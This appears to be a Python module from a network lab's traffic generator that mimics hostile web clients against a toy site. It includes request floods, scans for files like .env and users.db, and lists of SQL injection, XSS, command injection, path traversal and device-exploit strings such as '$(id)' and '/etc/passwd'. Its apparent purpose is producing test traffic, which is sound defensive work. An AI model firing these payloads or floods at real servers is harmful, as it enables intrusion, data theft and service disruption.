"""What attackers ask web servers: too much, what is not there, and what should not be interpreted."""

from __future__ import annotations

import socket
import urllib.parse

from lab.bots.pace import Told


def http_requests(told: Told) -> None:
    """Ask for pages as fast as the rate allows, one connection each or several requests per connection."""

    def visit() -> None:
        with told.connect() as line:
            for _ in range(max(1, int(told.hold_s))):
                path = f"/?{told.rng.randrange(10**8)}" if told.rng.random() < 0.8 else "/"
                line.sendall(f"GET {path} HTTP/1.1\r\nHost: {told.target}\r\nUser-Agent: x\r\n\r\n".encode())
                line.recv(8192)

    told.in_parallel(visit)


WEB_TRIALS = (
    "/index.php?id=1%27%20OR%20%271%27=%271",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/../../../../etc/passwd",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)",
    "/shell?cd+/tmp;rm+-rf+x",
    "/login.cgi?cli=aa%20aa%27;id%20%27$",
    "/items?id=1%20UNION%20SELECT%20user,pass%20FROM%20users--",
)


def web_trials(told: Told) -> None:
    """Try well-known holes of device web pages, which the lab's pages do not have."""

    def visit() -> None:
        path = told.rng.choice(WEB_TRIALS) + "&n=" + "a" * told.rng.randrange(200)
        verb = told.rng.choice(["GET", "GET", "POST"])
        body = "x" * told.rng.randrange(400) if verb == "POST" else ""
        with told.connect() as line:
            line.sendall(
                f"{verb} {path} HTTP/1.0\r\nHost: {told.target}\r\nContent-Length: {len(body)}\r\n\r\n{body}".encode()
            )
            while line.recv(8192):
                pass

    told.in_parallel(visit)


def _ask(told: Told, line: socket.socket, verb: str, path: str, *, body: str = "") -> None:
    """Send one request and read the answer to its end; the server closes (HTTP/1.0)."""
    agent = told.rng.choice(["Mozilla/5.0", "curl/7.88.1", "python-requests/2.31", "Go-http-client/1.1"])
    head = f"{verb} {path} HTTP/1.0\r\nHost: {told.target}\r\nUser-Agent: {agent}\r\n"
    line.sendall(f"{head}Content-Length: {len(body)}\r\n\r\n{body}".encode())
    while line.recv(8192):
        pass


def http_posts(told: Told) -> None:
    """Send forms as fast as the rate allows, one connection each."""

    def visit() -> None:
        with told.connect() as line:
            field = f"a{told.rng.randrange(10**6)}="
            _ask(told, line, "POST", "/", body=field + "x" * told.size_bytes)

    told.in_parallel(visit)


FOLDERS = ("", "admin/", "cgi-bin/", "backup/", "old/", "config/", "api/v1/", "private/", "web/", "setup/")
FILES = (
    "",
    ".env",
    ".git/HEAD",
    "config.bin",
    "config.json",
    "backup.tar.gz",
    "index.php",
    "info.php",
    "login.asp",
    "status.cgi",
    "system.xml",
    "passwd",
    "users.db",
    "snapshot.jpg",
    "robots.txt",
    "server-status",
)


def web_scan(told: Told) -> None:
    """Ask for pages that a device might have, most of which it has not, in a drawn order."""
    paths = [f"/{folder}{file}" for folder in FOLDERS for file in FILES]
    told.rng.shuffle(paths)
    left = iter(paths * 3)

    def visit() -> None:
        with told.connect() as line:
            _ask(told, line, told.rng.choice(["GET", "GET", "GET", "HEAD"]), next(left, "/"))

    told.in_parallel(visit)


TRIALS = {
    "sql_injection": ("1' OR '1'='1", "1; DROP TABLE x--", "1 UNION SELECT 1,2,3--", "1' AND SLEEP(0)--", '"="'),
    "xss": ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "'><svg/onload=alert(1)>", "<b>"),
    "command_injection": ("1;id", "$(id)", "`uname -a`", "1|cat /etc/hostname", "1 && echo x"),
}


def injection(told: Told) -> None:
    """Fill the fields of a page with what a careless server would interpret; the toy site only answers."""
    trials = TRIALS[told.aim]

    def visit() -> None:
        text = urllib.parse.quote_plus(told.rng.choice(trials) + " " * told.rng.randrange(20))
        path, field = told.rng.choice([("/items", "id"), ("/search", "q"), ("/login", "user")])
        with told.connect() as line:
            if path == "/login":
                _ask(told, line, "POST", path, body=f"{field}={text}&pass=x")
            else:
                _ask(told, line, "GET", f"{path}?{field}={text}")

    told.in_parallel(visit)
